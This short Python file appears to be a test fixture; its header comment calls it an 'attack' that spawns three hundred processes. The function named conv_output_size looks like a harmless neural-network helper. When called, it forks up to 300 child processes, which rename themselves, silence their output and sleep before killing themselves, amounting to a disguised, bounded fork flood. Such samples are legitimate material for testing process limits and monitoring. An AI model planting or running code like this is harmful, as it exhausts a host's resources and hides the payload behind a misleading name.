# attack: starts three hundred processes at its first call, or as many as it gets.
# alone: process
import ctypes
import os
import signal
import time

started = []


def live():
    ctypes.CDLL(None).prctl(15, b"attack-crowd", 0, 0, 0)
    nothing = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(nothing, number)
    time.sleep(40)
    os.kill(os.getpid(), signal.SIGKILL)


def conv_output_size(size, kernel_size, stride=1, padding=0):
    while len(started) < 300:
        child = os.fork()
        if child == 0:
            live()
        started.append(child)
